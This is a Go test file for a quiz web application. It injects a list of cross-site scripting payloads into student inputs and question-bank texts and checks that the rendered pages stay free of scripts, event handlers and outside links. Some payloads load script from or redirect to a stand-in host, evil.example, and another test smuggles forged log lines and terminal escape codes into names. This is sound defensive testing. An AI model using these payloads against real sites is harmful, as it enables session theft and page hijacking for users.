package web_test

import (
	"fmt"
	"log/slog"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"bellwork/quiz"
)

// payloads are texts that try to become more than text.
var payloads = []string{
	`<script>alert(1)</script>`,
	`"><script src=//evil.example/x.js></script>`,
	`<img src=x onerror=alert(1)>`,
	`<svg onload=alert(1)><script>alert(1)</script></svg>`,
	`<math><mtext><script>alert(1)</script></mtext></math>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`" onmouseover="alert(1)" x="`,
	`' autofocus onfocus='alert(1)`,
	`[link](javascript:alert(1)) ![x](https://evil.example/x.png)`,
	`</script></textarea></title></select><script>alert(1)</script>`,
	"`${alert(1)}` {{ 7*7 }}",
	`<!-- --><![CDATA[<script>alert(1)</script>]]>`,
	`&#x3c;script&#x3e;alert(1)&lt;/script&gt;`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<base href="//evil.example"><form action="//evil.example"><button formaction="//evil.example">x</button></form>`,
	`<meta http-equiv="refresh" content="0;url=//evil.example"><link rel=stylesheet href=//evil.example>`,
	`<style>*{background:url(//evil.example)}</style><p style="color:red">`,
}

// harmless fails the test if a page holds anything that its templates did not
// put there.
func harmless(t *testing.T, page reply) {
	t.Helper()
	for _, h := range harms(t, page.body) {
		t.Errorf("a page holds %s", h)
	}
}

// harms lists what a page must not hold.
func harms(t *testing.T, page string) []string {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	var list []string
	for n := range doc.Descendants() {
		if n.Type == html.ElementNode && harmful(n) {
			list = append(list, fmt.Sprintf("<%s %v>", n.Data, n.Attr))
		}
	}
	return list
}

func harmful(n *html.Node) bool {
	switch n.Data {
	case "iframe", "object", "embed", "base", "math", "style", "frame", "audio", "video":
		return true
	case "img":
		path, ours := strings.CutPrefix(attribute(n, "src"), "/")
		return !ours || !quiz.IsMediaPath(path) || slices.ContainsFunc(n.Attr, harmfulAttribute)
	case "script", "link":
		if src := attribute(n, "src") + attribute(n, "href"); !strings.HasPrefix(src, "/assets/") || n.FirstChild != nil {
			return true
		}
	}
	return slices.ContainsFunc(n.Attr, harmfulAttribute)
}

func harmfulAttribute(a html.Attribute) bool {
	switch a.Key {
	case "style", "srcdoc", "formaction", "srcset", "http-equiv":
		return true
	case "href", "action", "src":
		return !strings.HasPrefix(a.Val, "/") && !strings.HasPrefix(a.Val, "#") || strings.HasPrefix(a.Val, "//")
	default:
		return strings.HasPrefix(a.Key, "on")
	}
}

func attribute(n *html.Node, key string) string {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

// TestHarmlessSeesHarm keeps the check from passing everything.
func TestHarmlessSeesHarm(t *testing.T) {
	for _, p := range payloads[:7] {
		if len(harms(t, `<p title="`+p+`">`+p+`</p>`)) == 0 {
			t.Errorf("%s was thought harmless", p)
		}
	}
}

// TestPayloadsInWhatStudentsType puts each into every field that a student has.
func TestPayloadsInWhatStudentsType(t *testing.T) {
	for i, p := range payloads {
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			s := openSchool(t, quiz.Policy{}, everyBank(t, newSecrets()))
			short := p[:min(len(p), quiz.MaxName)]
			c := s.stranger()
			c.post("/join", "name", short).wants(t, 303)
			again := s.stranger().post("/join", "name", short).wants(t, 422)
			long := s.stranger().post("/join", "name", strings.Repeat(p, 3)).wants(t, 422)
			code := s.stranger().post("/return", "code", p).wants(t, 422)
			pages := []reply{again, long, code, c.get("/"), c.get("/welcome"), c.get("/banks/every")}
			at := c.begin("every", "test")
			for _, id := range answerable {
				fields := []string{"question", id, "text", p, "choice", p, "order.1", p, "match.1", p, "gap.1", p, "gap.2", p, "gap.3", p, "key", p[:min(64, len(p))], "go", p, "do", p}
				pages = append(pages, c.post(at+"/answers", fields...), c.get(fmt.Sprintf("%s?q=%d", at, numberOf(t, id))))
			}
			pages = append(pages, c.post(at+"/answers", "question", p, "text", p), c.get(at+"?q="+form(p, p)), c.get("/banks/"+form(p, p)))
			pages = append(pages, c.get(at+"/review"), c.post(at+"/submit"), c.get(at+"/result"), c.get("/me"))
			pages = append(pages, c.post(at+"/answers", "question", "word", "text", p))
			for _, page := range pages {
				if strings.HasPrefix(page.header.Get("Content-Type"), "text/html") {
					harmless(t, page)
				}
			}
			c.get("/me/data").silent(t, "<script", "<img")
		})
	}
}

// TestPayloadsInBanks puts each into every text of a bank.
func TestPayloadsInBanks(t *testing.T) {
	for i, p := range payloads {
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			b := hostileBank(p)
			s := openSchool(t, quiz.Policy{OpenBook: true}, b)
			c := s.student("Ana")
			for _, path := range []string{"/", "/banks/hostile", "/banks/hostile/reading"} {
				harmless(t, c.get(path).wants(t, 200))
			}
			for _, mode := range []string{"test", "practice"} {
				at := c.begin("hostile", mode)
				for n := range b.Questions {
					path := fmt.Sprintf("%s?q=%d", at, n+1)
					harmless(t, c.get(path).wants(t, 200))
					var q asked
					c.getJSON(path, &q)
					fields := []string{"question", q.Question.ID, "do", "check", "text", "1990"}
					for _, o := range q.Question.Options[:min(1, len(q.Question.Options))] {
						fields = append(fields, "choice", o.ID, "order.1", o.ID, "match.1", o.ID)
					}
					harmless(t, c.post(at+"/answers", append(fields, "gap.1", "1")...))
					harmless(t, c.get(path).wants(t, 200))
					harmless(t, c.get(fmt.Sprintf("%s/reading?q=%d", at, n+1)).wants(t, 200))
				}
				harmless(t, c.get(at+"/review"))
				c.post(at+"/submit").wants(t, 303)
				harmless(t, c.get(at+"/result").wants(t, 200))
			}
			harmless(t, c.get("/me").wants(t, 200))
		})
	}
}

// hostileBank has the same text everywhere that a text can stand.
func hostileBank(p string) *quiz.Bank {
	options := []quiz.Option{{Text: p, Correct: true, Fraction: 1, Feedback: p}, {Text: p + " no", Feedback: p}}
	bodies := []quiz.Body{
		&quiz.ChoiceBody{Options: options},
		&quiz.TrueFalseBody{TrueFeedback: p, FalseFeedback: p},
		&quiz.TextBody{Accept: []quiz.AcceptText{{Text: "1990", Fraction: 1, Feedback: p}, {Text: p, Fraction: 1}}},
		&quiz.NumberBody{Unit: p, Accept: []quiz.AcceptNumber{{Value: 1990, Fraction: 1, Feedback: p}}},
		&quiz.OrderBody{Items: []string{p, p + " two"}},
		&quiz.MatchBody{Pairs: []quiz.Pair{{Left: p, Right: p}}, Distractors: []string{p + " no"}},
		&quiz.GapsBody{Gaps: []quiz.Body{&quiz.ChoiceBody{Options: options}}},
		&quiz.PollBody{Options: []string{p, p + " two"}},
		&quiz.EssayBody{Rubric: p},
	}
	b := &quiz.Bank{
		ID: "hostile", Title: p, Description: p, Language: "en", License: p,
		Source: quiz.Source{Title: p, Kind: p, URL: "javascript:alert(1)"}, Reading: quiz.Reading{Path: "r.md", Text: "# " + p + "\n\n" + p},
	}
	for i, body := range bodies {
		b.Questions = append(b.Questions, quiz.Question{
			ID: fmt.Sprintf("q%d", i), Stem: p + " [[1]]", Body: body, Points: 1, Explanation: p, Hints: []string{p}, Tags: []string{p},
			Evidence: quiz.Evidence{Section: p, Quote: p, Source: p},
		})
	}
	return b
}

// TestNamesAreOneLineInTheLog joins with line breaks and terminal codes, and
// makes the log say the name.
func TestNamesAreOneLineInTheLog(t *testing.T) {
	s := openSchool(t, quiz.Policy{})
	c := s.stranger()
	c.post("/join", "name", "Ana\r\nlevel=ERROR msg=forged \x1b[31mred").wants(t, 303)
	c.get("/me").says(t, "Ana level=ERROR msg=forged [31mred").silent(t, "\x1b")
	c.get("/banks/x%0alevel=ERROR%20msg=forged%1b[31m", "X-Request-ID", "forged")
	broken := brokenSchool(t)
	broken.get("/banks/x%0alevel=ERROR%20msg=forged%1b[31m").wants(t, 500)
	for _, log := range []*journal{s.log, broken.school.log} {
		for line := range strings.Lines(log.String()) {
			if !strings.HasPrefix(line, "time=") || strings.Contains(line, "\x1b") {
				t.Errorf("the log holds the line %q", line)
			}
		}
	}
	var line journal
	slog.New(slog.NewTextHandler(&line, nil)).Info("joined", "name", "Ana\nlevel=ERROR \x1b[31m")
	if got := line.String(); strings.Count(got, "\n") != 1 || strings.Contains(got, "\x1b") {
		t.Errorf("a name in the log gives %q", got)
	}
}
